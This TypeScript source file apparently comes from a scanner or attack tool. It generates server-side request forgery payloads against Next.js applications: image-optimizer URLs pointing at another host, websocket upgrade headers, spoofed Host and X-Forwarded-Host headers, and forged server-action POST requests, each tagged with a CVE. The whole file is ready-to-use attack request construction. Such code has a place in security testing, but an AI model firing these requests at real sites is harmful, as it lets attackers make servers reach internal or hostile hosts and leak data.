// Requests that would make a portal of the careless sort ask another server.
import type { Bypass } from './advisories';

/** To hand on what it says: as a picture, over a connection that changes its protocol, as the host of a rewriting. */
export function awayTo(elsewhere: string, path: string): Bypass[] {
  const { host } = new URL(elsewhere);
  const image = `/_next/image?url=${encodeURIComponent(`${elsewhere}${path}`)}&w=640&q=75`;
  const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
  return [
    { name: 'a picture of elsewhere', target: image, known: 'CVE-2025-55173' },
    {
      ...{ name: 'an upgrade elsewhere', target: `${elsewhere}${path}`, headers: upgrade },
      known: 'CVE-2026-44578',
    },
    {
      ...{ name: 'an upgrade here', target: path, headers: { ...upgrade, host } },
      known: 'CVE-2026-44578',
    },
    { name: 'a host for a rewriting', target: path, headers: { host }, known: 'CVE-2026-64645' },
    {
      ...{ name: 'a forwarded host', target: path, headers: { 'x-forwarded-host': host } },
      known: 'CVE-2026-64645',
    },
  ];
}

/**
 * An action that leads on, sent as if to another host: Next fetches the page that it leads to.
 *
 * @param origin the page from which it is said to be sent
 */
export function actionAwayTo(
  elsewhere: string,
  { id, page }: { id: string; page: string },
  origin: string,
): Bypass[] {
  const { host } = new URL(elsewhere);
  const headers = {
    ...{ 'next-action': id, accept: 'text/x-component', origin },
    ...{ 'content-type': 'text/plain;charset=UTF-8', 'content-length': '2' },
  };
  const rest = {
    ...{ name: `an action of another host, from ${origin}`, target: page },
    ...{ method: 'POST', body: '[]' },
  };
  return [
    { ...rest, headers: { ...headers, host }, known: 'CVE-2024-34351' },
    { ...rest, headers: { ...headers, 'x-forwarded-host': host }, known: 'CVE-2026-64649' },
  ];
}
